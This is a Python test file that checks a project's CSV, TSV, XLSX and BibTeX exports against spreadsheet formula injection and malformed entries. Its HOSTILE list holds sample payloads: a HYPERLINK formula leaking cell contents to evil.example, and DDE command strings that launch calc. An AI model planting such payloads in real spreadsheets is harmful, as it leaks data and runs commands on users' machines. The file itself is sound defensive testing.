"""Record values stay data in every CSV, TSV and XLSX hysem writes, and in its BibTeX."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import bibtexparser
import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from hysem_assets.cli import main
from hysem_assets.core.spreadsheets import csv_text, inert, restored, write_xlsx
from hysem_assets.library.exports import bibtex
from hysem_assets_tests.library.corpus import sample_corpus
from hysem_assets_tests.paths import PROJECT_ROOT

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_a_spreadsheet_would_evaluate_starts_with_an_apostrophe(value: str) -> None:
    assert inert(value) == "'" + value


@pytest.mark.parametrize("value", ["-0.5", "+3", "1,234.5", "12%", "Air pollution - a review", "e-mail", 7, -2.5, None])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert inert(value) == value


@pytest.mark.parametrize("value", [*HOSTILE, "'" + HOSTILE[0], "''=1", "'plain", "-0.5", "Plain", 3, None])
def test_what_inert_writes_is_restored_exactly(value: object) -> None:
    assert restored(inert(value)) == value


#: Where a file for a spreadsheet may be written: the one module that keeps its cells inert.
SPREADSHEETS = Path("hysem_assets/core/spreadsheets.py")
#: Calls that write CSV, TSV or XLSX, and the modules that write spreadsheets.
WRITER_METHODS = {"to_csv", "to_excel", "ExcelWriter"}
CSV_WRITERS = {"writer", "DictWriter"}
SPREADSHEET_MODULES = ("openpyxl", "xlsxwriter", "odf", "pyexcel")


def spreadsheet_writers(source: str) -> list[str]:
    """The lines of ``source`` that write a spreadsheet file themselves."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Attribute) and node.attr in WRITER_METHODS:
            found.append(f"line {node.lineno}: .{node.attr}")
        elif isinstance(node, ast.Attribute) and node.attr in CSV_WRITERS and getattr(node.value, "id", "") == "csv":
            found.append(f"line {node.lineno}: csv.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and node.module == "csv" and {a.name for a in node.names} & CSV_WRITERS:
            found.append(f"line {node.lineno}: from csv import a writer")
        elif isinstance(node, (ast.Import, ast.ImportFrom)):
            modules = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
            found += [f"line {node.lineno}: import {m}" for m in modules if m.split(".")[0] in SPREADSHEET_MODULES]
    return found


def test_every_spreadsheet_writer_goes_through_core_spreadsheets() -> None:
    offenders = {
        str(path.relative_to(PROJECT_ROOT)): lines
        for path in sorted((PROJECT_ROOT / "hysem_assets").rglob("*.py"))
        if path.relative_to(PROJECT_ROOT) != SPREADSHEETS
        and (lines := spreadsheet_writers(path.read_text(encoding="utf-8")))
    }
    assert offenders == {}, "write CSV, TSV and XLSX through hysem_assets.core.spreadsheets"


def test_the_writer_scan_finds_each_way_of_writing_a_spreadsheet() -> None:
    for source in (
        "frame.to_csv(path)",
        "frame.to_excel(path)",
        "pd.ExcelWriter(path)",
        "csv.writer(file).writerows(rows)",
        "from csv import DictWriter",
        "from openpyxl import Workbook",
        "import openpyxl.styles",
    ):
        assert spreadsheet_writers(source), source
    assert spreadsheet_writers("csv.reader(file)\nwrite_csv(frame, path)\nfrom csv import reader") == []


def table() -> pd.DataFrame:
    return pd.DataFrame(
        {"title": [*HOSTILE, "Plain title"], "sample_size": [-1, 2, 3, 4, 5, 6, 7, 8], "effect": [-0.5] * 8}
    )


def test_csv_and_tsv_cells_are_inert_and_numbers_stay_numbers() -> None:
    for sep in (",", "\t"):
        rows = list(csv.DictReader(io.StringIO(csv_text(table(), sep), newline=""), delimiter=sep))
        assert [row["title"] for row in rows] == ["'" + value for value in HOSTILE] + ["Plain title"]
        assert [row["sample_size"] for row in rows][:2] == ["-1", "2"] and rows[0]["effect"] == "-0.5"


def test_xlsx_holds_no_formula_and_keeps_every_value_as_given(tmp_path: Path) -> None:
    path = tmp_path / "evidence_table.xlsx"
    write_xlsx(table(), path, "Evidence")
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert [cell.value for cell in sheet["A"][1:]] == [*HOSTILE, "Plain title"]
    assert [cell.value for cell in sheet["B"][1:3]] == [-1, 2] and sheet["C"][1].value == -0.5


def test_dedupe_output_is_inert(tmp_path: Path) -> None:
    source, output = tmp_path / "export.csv", tmp_path / "out.csv"
    pd.DataFrame({"ID": ["a", "b"], "title": [HOSTILE[0], HOSTILE[3]], "year": [2020, 2021]}).to_csv(
        source, index=False
    )
    result = CliRunner().invoke(main, ["dedupe", str(source), "-o", str(output)])
    assert result.exit_code == 0, result.output
    titles = pd.read_csv(output, dtype=str)["title"].tolist()
    assert titles == ["'" + HOSTILE[0], "'" + HOSTILE[3]]


def test_every_bibtex_entry_parses_whatever_its_title() -> None:
    corpus = sample_corpus()
    titles = ["A {broken title", "closing } brace", "ends with a backslash \\", "@article{x, title={y}}", "%}{%"]
    corpus = pd.concat([corpus] * 2, ignore_index=True).head(len(titles))
    corpus["cluster_id"] = [f"c-{i}" for i in range(len(titles))]
    corpus["title"] = titles
    corpus["doi"] = [f"10.5555/{i}}}{{" for i in range(len(titles))]
    text = bibtex(corpus)
    entries = bibtexparser.loads(text).entries
    assert len(entries) == len(titles)
    assert all(entry["doi"].endswith("%7D%7B") for entry in entries)
